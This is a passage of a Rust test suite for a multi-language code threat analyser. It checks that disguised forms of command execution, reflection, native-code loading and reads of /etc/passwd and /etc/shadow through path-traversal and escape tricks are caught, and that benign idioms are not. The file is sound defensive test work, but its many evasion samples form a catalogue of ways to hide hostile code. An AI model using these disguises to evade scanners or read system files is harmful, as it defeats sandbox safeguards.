            (reflection, "public class Main { public static void main(String[] a) throws Exception { new java.beans.Statement(Runtime.getRuntime(), \"ex\"+\"ec\", new Object[]{\"id\"}).execute(); } }", "java.reflection"),
            (reflection, "import java.beans.Expression;\nclass A {}", "java.reflection"),
            (reflection, "import java.beans.*;\nclass A { void f() throws Exception { new Statement(o, m, args).execute(); } }", "java.beans_by_wildcard"),
            (reflection, "import java.beans.*;\nclass A { Object f() throws Exception { return new Expression(o, m, args).getValue(); } }", "java.beans_by_wildcard"),
            (reflection, "class A { void f(java.io.InputStream in) { new java.beans.XMLDecoder(in).readObject(); } }", "java.reflection"),
            (reflection, "class A { Runnable f(Object o) { return java.beans.EventHandler.create(Runnable.class, o, \"exec\"); } }", "java.reflection"),
            (reflection, "public class Main { public static void main(String[] a) throws Exception { var js = jdk.jshell.JShell.builder().executionEngine(\"local\").build(); js.eval(\"1\"); } }", "java.reflection"),
            (reflection, "class A { void f() { JShell.create().eval(s); } }", "java.reflection"),
            (reflection, "class A { void f() throws Exception { ClassLoader.getSystemClassLoader().loadClass(\"java.lang.\" + \"Runtime\"); } }", "java.reflection"),
            (reflection, "class A { void f(ClassLoader l) throws Exception { l.loadClass(name); } }", "java.reflection"),
            (reflection, "class A { void f() { javax.tools.ToolProvider.getSystemJavaCompiler().run(null, null, null, \"X.java\"); } }", "java.reflection"),
            (reflection, "class A { void f() { var c = ToolProvider.getSystemJavaCompiler(); } }", "java.reflection"),
            (reflection, "class A { void f() { java.util.ServiceLoader.load(JavaCompiler.class); } }", "java.reflection"),
            (reflection, "class A { void f() { javax.script.ScriptEngine e = null; } }", "java.reflection"),
        ],
    );
    assert_graded(
        "java",
        ThreatLevel::None,
        &[
            "import java.beans.*;\nclass A { PropertyChangeSupport p = new PropertyChangeSupport(this); void f(Props props, java.io.InputStream in) throws Exception { props.load(in); var l = ServiceLoader.load(Plugin.class); Expression e = parse(s); } }\n",
            "class Calc { record Expression(Object a, String op, Object b) {} Object f() { return new Expression(1, \"+\", 2); } }\n",
            "class A { void f() { Runtime rt = Runtime.getRuntime(); long m = rt.maxMemory(); int n = rt.availableProcessors(); } }\n",
        ],
    );
}

#[test]
fn java_files_outside_the_workspace_and_http_clients_are_read_when_qualified() {
    // Hunt lang F10: `Path.of("/etc/passwd")`, `Paths.get("/")` and
    // `HttpClient.newHttpClient()` written with their packages were graded `none`.
    let file = "class A { void f() throws Exception { new FileInputStream(\"/etc/hosts\"); } }";
    let network = "import java.net.Socket;\nclass A {}";
    assert_disguises_caught(
        "java",
        &[
            (file, "public class Main { public static void main(String[] a) throws Exception { System.out.println(java.nio.file.Files.readString(java.nio.file.Path.of(\"/etc/passwd\"))); } }", "java.file_outside_workdir"),
            (file, "class A { void f() throws Exception { java.nio.file.Files.list(java.nio.file.Paths.get(\"/\")); } }", "java.file_outside_workdir"),
            (file, "class A { void f() throws Exception { Files.readString(Path.of(URI.create(\"file:///etc/passwd\"))); } }", "java.file_outside_workdir"),
            (file, "class A { void f() throws Exception { Files.readString(Path.of(new java.net.URI(\"file:/etc/passwd\"))); } }", "java.file_outside_workdir"),
            (file, "class A { void f() throws Exception { FileSystems.getDefault().getPath(\"/etc/passwd\"); } }", "java.file_outside_workdir"),
            (file, "class A { void f() throws Exception { Path.of(URI.create(\"file:///work/%2e%2e/etc/passwd\")); } }", "java.file_outside_workdir"),
            (file, "class A { void f() throws Exception { new File(\"/\", \"etc/passwd\").exists(); } }", "java.file_outside_workdir"),
            (network, "public class Main { public static void main(String[] a) { var c = java.net.http.HttpClient.newHttpClient(); } }", "java.network"),
            (network, "class A { void f() { var c = HttpClient.newHttpClient(); } }", "java.network"),
        ],
    );
    assert_graded(
        "java",
        ThreatLevel::None,
        &[
            "class A { void f() throws Exception { Files.readString(Path.of(\"data.txt\")); Files.list(java.nio.file.Paths.get(\"/work/out\")); Path.of(URI.create(\"file:///tmp/x\")); new java.io.File(\"/dev/null\"); } }\n",
        ],
    );
}

#[test]
fn java_class_for_name_of_a_harmless_literal_is_not_reflection() {
    // Hunt lang F13: `Class.forName("org.sqlite.JDBC")`, the JDBC driver idiom, was graded
    // `high` and sent ordinary programs to gVisor. A literal name is graded by what it names.
    assert_graded(
        "java",
        ThreatLevel::None,
        &[
            "class A { void f() throws Exception { Class.forName(\"org.sqlite.JDBC\"); Class.forName(\"com.mysql.cj.jdbc.Driver\"); Class<?> c = Class.forName(\"com.example.Plugin\", true, loader); getClass().getClassLoader().loadClass(\"org.h2.Driver\"); var cs = java.nio.charset.Charset.forName(enc); cs = Charset.forName(args[0]); } }\n",
        ],
    );
    let plain = "class A { void f() throws Exception { Class.forName(s); } }";
    assert_disguises_caught(
        "java",
        &[
            (plain, "class A { void f() throws Exception { Class.forName(\"java.lang.Runtime\").getMethods(); } }", "java.reflection"),
            (plain, "class A { void f() throws Exception { Class.forName(\"java.lang.ProcessBuilder\"); } }", "java.reflection"),
            (plain, "class A { void f() throws Exception { Class.forName(\"sun.misc.Unsafe\"); } }", "java.reflection"),
            (plain, "class A { void f() throws Exception { Class.forName(\"javax.script.ScriptEngineManager\"); } }", "java.reflection"),
            (plain, "class A { void f() throws Exception { Class.forName(\"jdk.jshell.JShell\"); } }", "java.reflection"),
            (plain, "class A { void f() throws Exception { Class.forName(\"java.lang.reflect.Proxy\"); } }", "java.reflection"),
            (plain, "class A { void f() throws Exception { Class.forName(\"java.net.URLClassLoader\"); } }", "java.reflection"),
            (plain, "class A { void f() throws Exception { Class.forName(\"[Ljava.lang.Runtime;\"); } }", "java.reflection"),
            (plain, "class A { void f() throws Exception { Class.forName(\"java.lang.\" + \"Runtime\"); } }", "java.reflection"),
            (plain, "class A { void f() throws Exception { Class.forName(\"java.lang.\\122untime\"); } }", "java.reflection"),
            (plain, "class A { void f() throws Exception { Class.forName(name); } }", "java.reflection"),
            (plain, "class A { void f() throws Exception { Class.forName(m, \"x.Y\"); } }", "java.reflection"),
            (plain, "class A { void f() throws Exception { \"\".getClass().forName(name); } }", "java.reflection"),
            (plain, "class A { void f() throws Exception { Class.forName(\"\"\"\n  java.lang.Runtime\"\"\".strip()); } }", "java.reflection"),
        ],
    );
}

#[test]
fn r_base_functions_as_namespaced_values_and_through_environments_are_read() {
    // Hunt lang F11: `base::eval`, `base::dyn.load`, `base::system` as values,
    // `getFromNamespace`, and `baseenv()`/`.BaseNamespaceEnv`/`environment(…)` with `$name` or
    // `[["name"]]` ran code, programs or native code graded `none`.
    let eval = "eval(parse(text = s))";
    let process = "system('id')";
    let native = "dyn.load('x.so')";
    assert_disguises_caught(
        "r",
        &[
            (eval, "e <- base::eval; p <- base::parse; e(p(text = readLines(file(\"stdin\"))))", "r.eval"),
            (eval, "e <- base:::eval", "r.eval"),
            (eval, "do.call(base::eval, list(x))", "r.eval"),
            (eval, "base::str2lang -> f", "r.eval"),
            (eval, "f <- function() base::eval", "r.eval"),
            (eval, "(eval)(x)", "r.eval"),
            (eval, "(base::eval)(x)", "r.eval"),
            (eval, "f <- function(g = eval) g(x)", "r.eval"),
            (eval, "f <- if (TRUE) eval else print", "r.eval"),
            (native, "f <- base::dyn.load; d <- f(paste0(\"/usr/lib/x86_64-linux-gnu/\", \"libz.so.1\"))", "r.native_code"),
            (native, "dyn.load -> f", "r.native_code"),
            (process, "sapply(\"id\", base::system)", "r.process"),
            (process, "Map(base::system, \"id\")", "r.process"),
            (process, "f <- base::system; f(\"id\")", "r.process"),
            (process, "base:::system2 -> f", "r.process"),
            (process, "(system)(\"id\")", "r.process"),
            (process, "f <- function() { system }", "r.process"),
            (eval, "f <- getFromNamespace(\"system\", \"base\"); f(\"id\")", "r.eval"),
            (eval, "f <- utils::getFromNamespace(\"system\", ns = \"base\")", "r.eval"),
            (eval, "f <- base::getExportedValue(\"base\", \"system\")", "r.eval"),
            (eval, "f <- getFromNamespace(n, \"base\")", "r.eval"),
            (eval, "baseenv()[[\"dyn.load\"]](\"x.so\")", "r.eval"),
            (eval, "baseenv()$eval(x)", "r.eval"),
            (eval, ".BaseNamespaceEnv$eval(x)", "r.eval"),
            (eval, "environment(sum)$system(\"id\")", "r.eval"),
            (eval, "environment(sum)$`system`(\"id\")", "r.eval"),
            (eval, "asNamespace(\"base\")$system(\"id\")", "r.eval"),
            (eval, "base::baseenv()[['system']]('id')", "r.eval"),
            (eval, "baseenv()[[paste0(\"sys\", \"tem\")]](\"id\")", "r.eval"),
            (eval, "baseenv()[[n]](\"id\")", "r.eval"),
            (eval, ".GlobalEnv$`.Call`(x)", "r.eval"),
        ],
    );
    assert_graded(
        "r",
        ThreatLevel::None,
        &[
            "e <- environment(f)\nprint(environment(f)$count)\nx <- .GlobalEnv$data\ny <- baseenv()[[\"pi\"]]\nf <- base::mean\nsapply(1:3, base::sqrt)\nenvironment[[key]]\nlst$system\n",
        ],
    );
}

#[test]
fn r_eval_of_a_quoted_expression_is_graded_by_the_expression() {
    // Hunt lang F13: `eval(quote(1 + 2))` was graded `high`; eval of a quoted literal
    // expression runs that expression, which the rules read where it is written.
    assert_graded(
        "r",
        ThreatLevel::None,
        &[
            "print(eval(quote(1 + 2)))\nx <- eval(quote(mpg * 2), mtcars)\ny <- base::eval(expr = base::quote(a + b), envir = list(a = 1, b = 2))\nwrite.csv(df, quote = FALSE)\n",
        ],
    );
    assert_graded("r", ThreatLevel::Medium, &["eval(quote(system(\"id\")))"]);
    let plain = "eval(parse(text = s))";
    assert_disguises_caught(
        "r",
        &[
            (plain, "eval(x)", "r.eval"),
            (plain, "eval(quote(x)[[1]])", "r.eval"),
            (plain, "eval(quote(x) + 1)", "r.eval"),
            (plain, "eval(bquote(.(f)(\"id\")))", "r.eval"),
            (plain, "eval(str2lang(s))", "r.eval"),
            (plain, "eval(...)", "r.eval"),
            (plain, "eval(envir = e, x)", "r.eval"),
            (
                plain,
                "quote <- function(x) parse(file(\"stdin\"))\neval(quote(1))",
                "r.eval",
            ),
            (plain, "assign(\"quote\", f)\neval(quote(1))", "r.eval"),
            (plain, "g <- function(quote) eval(quote(1))", "r.eval"),
            (
                plain,
                "with(list(quote = function(x) parse(file(\"stdin\"))), eval(quote(1)))",
                "r.eval",
            ),
            (plain, "evalq(x, e)", "r.eval"),
        ],
    );
}

#[test]
fn php_call_user_func_of_a_harmless_literal_is_not_eval() {
    // Hunt lang F13: `call_user_func([new A, "run"])` was graded `high` and sent ordinary
    // programs to gVisor. A literal callback is graded by what it names.
    assert_graded(
        "php",
        ThreatLevel::None,
        &[
            "<?php\ncall_user_func([new A, \"run\"]);\ncall_user_func([$obj, 'run'], 1);\ncall_user_func(array($this, 'handle'), $x);\ncall_user_func([self::class, 'make']);\ncall_user_func([new A(1, 2), 'run']);\ncall_user_func('strtoupper', 'a');\ncall_user_func(\"A::run\");\ncall_user_func_array([$this->h, 'run'], $args);\nforward_static_call(['B', 'f']);\ncall_user_func(function () { return 1; });\ncall_user_func(fn() => 1);\ncall_user_func(static function ($x) { return $x; }, 2);\n",
        ],
    );
    let plain = "<?php eval($code);";
    assert_disguises_caught(
        "php",
        &[
            (plain, "<?php call_user_func($name);", "php.eval"),
            (plain, "<?php call_user_func_array($f, $args);", "php.eval"),
            (plain, "<?php call_user_func([$obj, $method]);", "php.eval"),
            (plain, "<?php call_user_func($this->handler);", "php.eval"),
            (plain, "<?php call_user_func(getName());", "php.eval"),
            (
                plain,
                "<?php call_user_func('sys' . 'tem', 'id');",
                "php.eval",
            ),
            (
                plain,
                "<?php call_user_func(\"sys{$t}\", 'id');",
                "php.eval",
            ),
            (
                plain,
                "<?php call_user_func('create_function', '', $c);",
                "php.eval",
            ),
            (
                plain,
                "<?php call_user_func('call_user_func', $f);",
                "php.eval",
            ),
            (
                plain,
                "<?php call_user_func('\\\\system', 'id');",
                "php.eval",
            ),
            (plain, "<?php call_user_func('SYSTEM', 'id');", "php.eval"),
            (
                plain,
                "<?php call_user_func('putenv', 'LD_PRELOAD=/tmp/x.so');",
                "php.eval",
            ),
            (
                plain,
                "<?php call_user_func([$r, 'invokeArgs'], ['id']);",
                "php.eval",
            ),
            (plain, "<?php call_user_func([$a[0], 'run']);", "php.eval"),
            (plain, "<?php call_user_func(...$args);", "php.eval"),
            (plain, "<?php call_user_func(callback: $f);", "php.eval"),
            (plain, "<?php \\call_user_func($f);", "php.eval"),
        ],
    );
}

#[test]
fn javascript_file_urls_outside_the_workspace_are_read() {
    // Hunt lang F9: `fs.readFileSync(new URL("file:///etc/passwd"))` read a file outside the
    // workspace graded `none` (a `file:` string is a relative path to Node, ENOENT).
    let plain = "require('fs').readFileSync('/etc/hosts', 'utf8');";
    assert_disguises_caught(
        "javascript",
        &[
            (plain, "const fs = require('fs');\nconsole.log(String(fs.readFileSync(new URL(\"file:///etc/passwd\"))));", "javascript.file_outside_workdir"),
            (plain, "fs.readFileSync(new url.URL('file:/etc/passwd'));", "javascript.file_outside_workdir"),
            (plain, "fs.readdirSync(new URL(`file://localhost/root/`));", "javascript.file_outside_workdir"),
            (plain, "fs.readFileSync(fileURLToPath('file:///etc/passwd'));", "javascript.file_outside_workdir"),
            (plain, "fs.readFileSync(new URL('file:///work/%2e%2e/etc/passwd'));", "javascript.file_outside_workdir"),
            (plain, "fs.readFileSync(new URL('FILE:///etc/passwd'));", "javascript.file_outside_workdir"),
            (plain, "fs.readFileSync(new URL('file:///work/../etc/passwd'));", "javascript.file_outside_workdir"),
            (plain, "fs.readFileSync(new URL('file:///etc/../etc/passwd'));", "javascript.file_outside_workdir"),
        ],
    );
    assert_graded(
        "javascript",
        ThreatLevel::None,
        &["const u = new URL('file:///work/data.txt');\nconst p = fileURLToPath('file:///work/a.b/c.txt');\nconst t = new URL('file:///tmp/x');\nconst h = new URL('https://example.com/etc/passwd');\nconst r = new URL('./data.json', import.meta.url);\n"],
    );
}

#[test]
fn bash_endless_loops_of_a_sleep_that_spawn_are_read() {
    // Hunt lang F12: `while sleep 0; do … & done` ran, graded `low`: a `sleep` of a literal
    // time always succeeds, so the loop never ends.
    let plain = "while true; do sleep 30 & done";
    let rule = "bash.spawn_in_endless_loop";
    assert_disguises_caught(
        "bash",
        &[
            (plain, "while sleep 0; do sleep 30 & done", rule),
            (plain, "while sleep 0.1; do (sleep 30 &); done", rule),
            (plain, "while sleep 1s; do sleep 30 & done", rule),
            (plain, "while /bin/sleep 0; do sleep 30 & done", rule),
        ],
    );
    for program in [
        "while sleep \"$t\"; do sleep 1 & done",
        "while sleep 1; do check || break; done",
        "until sleep 0; do sleep 1 & done",
    ] {
        let analysis = analyzer().analyze("bash", program.as_bytes());
        assert!(
            analysis.threat_level < ThreatLevel::Critical,
            "{program:?}\n{}",
            describe(&analysis)
        );
    }
}

#[test]
fn paths_through_the_workspace_with_a_parent_component_are_outside_it() {
    // Hunt rules2: the "inside the workspace" exemption of the `file_outside_workdir` rules read
    // only the start of a path, so `readLines("/work/../etc/passwd")` was graded `none`. A
    // path with a `..` component (or an escape that may spell one) is never exempt, and a
    // relative one that climbs out (`x/../../etc/passwd`) counts as `../x` does.
    let cases: &[(&str, &str, &[&str])] = &[
        ("python", "open('/etc/passwd')", &[
            "open('/work/../etc/passwd')",
            "open('/tmp/../../etc/passwd')",
            "open('/tmp/x/../../etc/passwd')",
            "open('/work/..')",
            "open('/work/\\x2e\\x2e/etc/passwd')",
            "open('/dev/null/../../etc/passwd')",
            "open('x/../../etc/passwd')",
            "open('/work/' + '../etc/passwd')",
            "open('/work/.' + './etc/passwd')",
            "open('/work/%s/etc/passwd' % '..')",
        ]),
        ("javascript", "require('fs').readFileSync('/etc/passwd');", &[
            "require('fs').readFileSync('/work/../etc/passwd');",
            "fs.readFileSync(`/tmp/../etc/passwd`);",
            "fs.readdirSync('/work/x/../..');",
            "fs.readFileSync('x/../../etc/passwd');",
        ]),
        ("ruby", "File.read('/etc/passwd')", &[
            "File.read('/work/../etc/passwd')",
            "File.read(\"/tmp/../../etc/passwd\")",
            "open('/work/../etc/passwd')",
            "File.read('/work/\\x2e./etc/passwd')",
        ]),
        ("php", "<?php echo file_get_contents('/etc/passwd');", &[
            "<?php echo file_get_contents('/work/../etc/passwd');",
            "<?php echo file_get_contents(\"/tmp/../../etc/passwd\");",
            "<?php include '/work/../etc/passwd';",
            "<?php echo file_get_contents(\"/work/\\x2e\\x2e/etc/passwd\");",
            "<?php include(\"/tmp/\\56\\56/etc/passwd\");",
        ]),
        ("r", "x <- readLines('/etc/passwd')", &[
            "x <- readLines('/work/../etc/passwd')",
            "x <- readLines(\"/tmp/../../etc/shadow\")",
            "x <- readLines('/work/a/../../etc/passwd')",
            "x <- readLines('a/../../etc/passwd')",
        ]),
        ("go", "package main\nimport \"os\"\nfunc main() { os.ReadFile(\"/etc/passwd\") }", &[
            "package main\nimport \"os\"\nfunc main() { os.ReadFile(\"/work/../etc/passwd\") }",
            "package main\nimport \"os\"\nfunc main() { os.Open(\"/tmp/../../etc/passwd\") }",
        ]),
        ("java", "class A { void f() throws Exception { new java.io.FileReader(\"/etc/passwd\"); } }", &[
            "class A { void f() throws Exception { new java.io.FileReader(\"/work/../etc/passwd\"); } }",
            "class A { void f() throws Exception { java.nio.file.Files.readAllLines(java.nio.file.Path.of(\"/tmp/../etc/passwd\")); } }",
            "class A { void f() throws Exception { Files.readString(Paths.get(\"/work/\\u002e\\u002e/etc/passwd\")); } }",
            "class A { void f() throws Exception { new File(\"/work/\\56\\56/etc/passwd\"); } }",
        ]),
        ("c", "int main(void) { fopen(\"/etc/passwd\", \"r\"); }", &[
            "int main(void) { fopen(\"/tmp/../etc/passwd\", \"r\"); }",
            "int main(void) { open(\"/work/../../etc/passwd\", 0); }",
            "int main(void) { fopen(\"/work/\\x2e\\x2e/etc/passwd\", \"r\"); }",
        ]),
        ("cpp", "int main() { std::ifstream f(\"/etc/passwd\"); }", &[
            "int main() { std::ifstream f(\"/work/../etc/passwd\"); }",
            "int main() { fopen(\"/tmp/../etc/passwd\", \"r\"); }",
        ]),
        ("rust", "fn main() { std::fs::read_to_string(\"/etc/passwd\"); }", &[
            "fn main() { std::fs::read_to_string(\"/work/../etc/passwd\"); }",
            "fn main() { std::fs::File::open(\"/tmp/../../etc/passwd\"); }",
            "fn main() { std::fs::read(\"/work/\\x2e\\x2e/etc/passwd\"); }",
        ]),
        ("bash", "cat /etc/passwd", &[
            "cat /work/../etc/passwd",
            "cat \"/tmp/../../etc/passwd\"",
            "cat '/work/x/../../etc/passwd'",
            "cat /work/\\.\\./etc/passwd",
            "cat /work/.{.,}/etc/passwd",
            "cat /work/.'.'/etc/passwd",
            "cat /work/${u:-..}/etc/passwd",
            "cat /work/.[.]/etc/passwd",
            "cat /work/.*/etc/passwd",
            "cat x/../../etc/passwd",
            "echo x > /tmp/../etc/cron.d/x",
            "cat < /dev/tcp/../../etc/passwd",
        ]),
    ];
    let failed: Vec<&str> = cases
        .iter()
        .filter(|&&(language, plain, disguised)| {
            let rule = format!("{language}.file_outside_workdir");
            let cases: Vec<(&str, &str, &str)> = disguised
                .iter()
                .map(|&d| (plain, d, rule.as_str()))
                .collect();
            std::panic::catch_unwind(|| assert_disguises_caught(language, &cases)).is_err()
        })
        .map(|&(language, _, _)| language)
        .collect();
    assert!(failed.is_empty(), "failed: {failed:?}");
}

#[test]
fn paths_inside_the_workspace_stay_exempt() {
    let programs: &[(&str, &[&str])] = &[
        ("python", &["open('/work/data.csv')\nopen('/tmp/out.txt', 'w')\nopen('/work/a/.cache/b.json')\nopen('/work/x.y/...z')\nopen('/work/a..b/c')\nopen('/tmp/' + name + '.json')\nopen('/work/./a.txt')\nopen('/dev/null')\n"]),
        ("javascript", &["fs.readFileSync('/work/data.txt');\nfs.writeFileSync('/tmp/a.b.c', x);\n"]),
        ("ruby", &["File.read('/work/data.txt')\nFile.write('/tmp/.hidden', x)\n"]),
        ("php", &["<?php echo file_get_contents('/work/data.txt'); include '/work/lib/a.php';"]),
        ("r", &["x <- readLines('/work/data.txt')\nwriteLines(x, '/tmp/out.txt')\n"]),
        ("go", &["package main\nimport \"os\"\nfunc main() { os.ReadFile(\"/work/a.txt\"); os.Create(\"/tmp/x\") }"]),
        ("java", &["class A { void f() throws Exception { new java.io.FileReader(\"/work/a.txt\"); Paths.get(\"/tmp/b\"); } }"]),
        ("c", &["int main(void) { fopen(\"/work/a.txt\", \"r\"); fopen(\"/tmp/.x\", \"w\"); }"]),
        ("rust", &["fn main() { std::fs::read_to_string(\"/work/a.txt\"); std::fs::File::create(\"/tmp/x\"); }"]),
        ("bash", &["cat /work/a.txt\nrm -f /tmp/*.log\necho x > /tmp/out\ncat \"/tmp/$name\"\ncat '/work/.config/x'\necho > /dev/null\n"]),
    ];
    for &(language, programs) in programs {
        assert_graded(language, ThreatLevel::None, programs);
    }
}

#[test]
fn qualified_names_are_read_through_blanks_and_comments_around_their_separators() {
    // Hunt rules2: Java allows blanks and comments inside a qualified name, and the rules read
    // a name by its text: `import java.lang. reflect.Method;` was graded `none`.
    let java = |body: &str| format!("{body}\nclass A {{ void f() throws Exception {{ }} }}");
    let java_call = |call: &str| format!("class A {{ void f() throws Exception {{ {call} }} }}");
    let plain_import = java("import java.lang.reflect.Method;");
    let plain_runtime = java_call("java.lang.Runtime.getRuntime().exec(\"id\");");
    let disguised = [
        java("import java.lang. reflect.Method;"),
        java("import java.lang/**/.reflect.Method;"),
        java("import java.lang // x\n  .reflect.Method;"),
        java("import java . lang . reflect . *;"),
        java("import java.lang.reflect /* x */ .*;"),
        java("import javax . script.ScriptEngineManager;"),
        java("import sun.misc /**/ . Unsafe;"),
    ];
    let mut cases: Vec<(&str, &str, &str)> = disguised
        .iter()
        .map(|d| (plain_import.as_str(), d.as_str(), "java.reflection"))
        .collect();
    cases[6].2 = "java.native_code";
    let runtime = [
        java_call("java.lang . Runtime . getRuntime().exec(\"id\");"),
        java_call("Runtime/**/.getRuntime().exec(\"id\");"),
        java_call("java /**/ . lang.Runtime.getRuntime().exec(\"id\");"),
    ];
    cases.extend(
        runtime
            .iter()
            .map(|d| (plain_runtime.as_str(), d.as_str(), "java.process")),
    );
    assert_disguises_caught("java", &cases);

    assert_disguises_caught(
        "cpp",
        &[
            (
                "int main() { std::system(\"id\"); }",
                "int main() { std :: system(\"id\"); }",
                "cpp.process",
            ),
            (
                "int main() { std::system(\"id\"); }",
                "int main() { std::/**/system(\"id\"); }",
                "cpp.process",
            ),
            (
                "int main() { std::system(\"id\"); }",
                "int main() { :: system(\"id\"); }",
                "cpp.process",
            ),
        ],
    );
    let plain = "fn main() { std::process::Command::new(\"sh\"); }";
    assert_disguises_caught(
        "rust",
        &[
            (
                plain,
                "fn main() { std :: process :: Command :: new(\"sh\"); }",
                "rust.process",
            ),
            (
                plain,
                "fn main() { std::process::/**/Command::new(\"sh\"); }",
                "rust.process",
            ),
            (
                plain,
                "use std :: process :: Command;\nfn main() { Command::new(\"sh\"); }",
                "rust.process",
            ),
        ],
    );
    assert_disguises_caught(
        "python",
        &[
            (
                "import os\nos.system('id')",
                "import os\nos . system('id')",
                "python.os_system",
            ),
            (
                "import os\nos.system('id')",
                "import os\n(os # x\n .system)('id')",
                "python.os_system",
            ),
            (
                "import ctypes.util",
                "import ctypes . util",
                "python.native_code",
            ),
            (
                "from ctypes.util import find_library",
                "from ctypes . util import find_library",
                "python.native_code",
            ),
        ],
    );
    assert_disguises_caught(
        "ruby",
        &[
            (
                "File.read('/etc/passwd')",
                ":: File.read('/etc/passwd')",
                "ruby.file_outside_workdir",
            ),
            (
                "Kernel.system('id')",
                "Kernel . system('id')",
                "ruby.process",
            ),
            (
                "Kernel.system('id')",
                "Kernel :: system('id')",
                "ruby.process",
            ),
        ],
    );
    assert_disguises_caught(
        "php",
        &[(
            "<?php \\FFI::cdef('int x;');",
            "<?php \\ FFI::cdef('int x;');",
            "php.native_code",
        )],
    );
    // Read apart by the rules already: the object (or package) and the member.
    assert_disguises_caught(
        "javascript",
        &[
            (
                "process.binding('spawn_sync')",
                "process . binding('spawn_sync')",
                "javascript.native_code",
            ),
            (
                "process.binding('spawn_sync')",
                "process/**/.binding('spawn_sync')",
                "javascript.native_code",
            ),
            (
                "require('child_process').exec('id')",
                "require('child_process') . exec('id')",
                "javascript.child_process",
            ),
        ],
    );
    assert_disguises_caught(
        "go",
        &[(
            "package main\nimport \"os/exec\"\nfunc main() { exec.Command(\"id\").Run() }",
            "package main\nimport \"os/exec\"\nfunc main() { exec . /* x */ Command(\"id\").Run() }",
            "go.process",
        )],
    );
    assert_disguises_caught(
        "r",
        &[("base::system('id')", "base :: system('id')", "r.process")],
    );
}

#[test]
fn ruby_process_modules_held_in_a_name_or_yielded_to_a_block_are_read() {
    // Hunt rules2: `x = Kernel; x.system("id")` and `Kernel.tap { |k| k.system "id" }` ran `id`
    // graded `none`: the rules read the receiver's name.
    let plain = "Kernel.system('id')";
    let rule = "ruby.held_process_module";
    assert_disguises_caught(
        "ruby",
        &[
            (plain, "x = Kernel; x.system(\"id\")", rule),
            (plain, "def f\n  k = ::Kernel\n  k.exec 'id'\nend", rule),
            (plain, "Kernel.tap { |k| k.system \"id\" }", rule),
            (plain, "Kernel.then do |k| k.spawn('id') end", rule),
            (plain, "Open3.yield_self { |o| o.capture2('id') }", rule),
            (plain, "K = Kernel\ndef f = K.system('id')", rule),
            (plain, "x = (Kernel)\nx.system('id')", rule),
            (plain, "x = nil || Kernel\nx.system('id')", rule),
            (plain, "p, q = Process, 1\np.spawn('id')", rule),
            (plain, "[Kernel].each { |k| k.system('id') }", rule),
            (plain, "io = IO\nio.popen('id').read", rule),
            (plain, "@k ||= Kernel\n@k.system('id')", rule),
        ],
    );
    // A command method on a name elsewhere, or after a module is only used, is nothing.
    assert_graded(
        "ruby",
        ThreatLevel::None,
        &[
            "conn = PG.connect\nconn.exec('select 1')",
            "data = IO.read('x.sql')\nconn.exec(data)",
            "pid = Process.pid\nconn.exec('select 1')",
            "Process.clock_gettime(Process::CLOCK_MONOTONIC).tap { |t| db.exec(t) }",
            "x = Kernel\nputs x.name",
        ],
    );
}

#[test]
fn everyday_erb_templates_and_stream_choices_are_nothing() {
    // Hunt regress 1 and 2: a logger's `process[err ? "stderr" : "stdout"]` and every ERB
    // rendering, a literal template's included, went to gVisor graded high.
    assert_graded(
        "javascript",
        ThreatLevel::None,
        &[
            "const err = process.argv.length > 5;\nprocess[err ? \"stderr\" : \"stdout\"].write(\"hi\\n\");\n",
            "function log(e, m) { process[e ? 'stderr' : 'stdout'].write(m + '\\n'); }\nlog(false, 'x');\n",
            "const stream = process.argv[2] ? 'stderr' : 'stdout';\nprocess[stream].write('x\\n');\nif (process[stream].isTTY) {}\n",
        ],
    );
    assert_graded(
        "ruby",
        ThreatLevel::None,
        &[
            "require \"erb\"\nname = \"world\"\nputs ERB.new(\"Hello <%= name %>!\").result(binding)\n",
            "require 'erb'\nputs ERB.new('<% 3.times do |i| %><%= i %> <% end %>').result_with_hash(n: 1)\n",
        ],
    );
    // A chosen key or template that runs code still counts.
    assert_graded_at_least(
        "javascript",
        ThreatLevel::High,
        &[
            "const k = x ? 'bind' + 'ing' : 'stdout';\nprocess[x ? k : 'stdout']('spawn_sync');\n",
            "const k = 'bind' + 'ing';\nprocess[k]('spawn_sync');\n",
            "const k = 'bind' + 'ing';\nconst b = process[k];\nb('spawn_sync');\n",
            "const k = 'bind' + 'ing';\nprocess[k].call(process, 'spawn_sync');\n",
            "const k = 'bind' + 'ing';\nrun(process[k]);\n",
        ],
    );
    assert_graded_at_least(
        "ruby",
        ThreatLevel::High,
        &[
            "require 'erb'\nputs ERB.new(\"<%= Kernel.system('id') %>\").result(binding)\n",
            "require 'erb'\nputs ERB.new(%q{<%= `id` %>}).result\n",
            "require 'erb'\nputs ERB.new(File.read('t.erb')).result(binding)\n",
            "require 'erb'\nt = ERB.new(STDIN.read)\nputs t.result_with_hash(a: 1)\n",
        ],
    );
}

#[test]
fn paths_that_stay_inside_after_lexical_normalisation_are_not_outside() {
    // Hunt regress F3: once any `..` component counted, paths that climb back into where they
    // started were graded `medium` in every language. The rules read a path after lexical
    // normalisation (`#normalized-match?`): `./data/../data/x` is `data/x`, `/tmp/../tmp/x`
    // is `/tmp/x`. The hunter's 14 corpus programs are in the benign corpus (`dotdot_*`).
    let corpus: &[(&str, &str)] = &[
        ("c", include_str!("benign/c/dotdot_files.c")),
        ("cpp", include_str!("benign/cpp/dotdot_files.cpp")),
        ("go", include_str!("benign/go/dotdot_files.go")),
        ("go", include_str!("benign/go/dotdot_paths.go")),
        ("java", include_str!("benign/java/dotdot_Files1.java")),
        (
            "javascript",
            include_str!("benign/javascript/dotdot_files.js"),
        ),
        ("php", include_str!("benign/php/dotdot_files.php")),
        ("python", include_str!("benign/python/dotdot_csv_report.py")),
        ("python", include_str!("benign/python/dotdot_path.py")),
        ("python", include_str!("benign/python/dotdot_work_sub.py")),
        ("r", include_str!("benign/r/dotdot_files.R")),
        ("ruby", include_str!("benign/ruby/dotdot_files.rb")),
        ("rust", include_str!("benign/rust/dotdot_files.rs")),
        ("bash", include_str!("benign/bash/dotdot_wc.sh")),
    ];
    for &(language, program) in corpus {
        assert_graded(language, ThreatLevel::None, &[program]);
    }
    let probes: &[(&str, &[&str])] = &[
        ("python", &["open('./data/../data/x.txt')", "open('a/b/../c.txt')", "open('/tmp/../tmp/x')", "open('/work/a/./b/../c')", "open('a/..')"]),
        ("bash", &["cd build/.. && ls", "source ./lib/../lib/common.sh", "cat \"/tmp/../tmp/x\"", "wc -l < ./data/../data/in.txt"]),
        ("r", &["x <- read.csv('data/../data/in.csv')"]),
        ("c", &["#include \"lib/../util.h\"\nint main(void) { fopen(\"a/b/../c.txt\", \"r\"); }"]),
        ("cpp", &["#include \"lib/../util.h\"\nint main() { std::ifstream f(\"./x/../y\"); }"]),
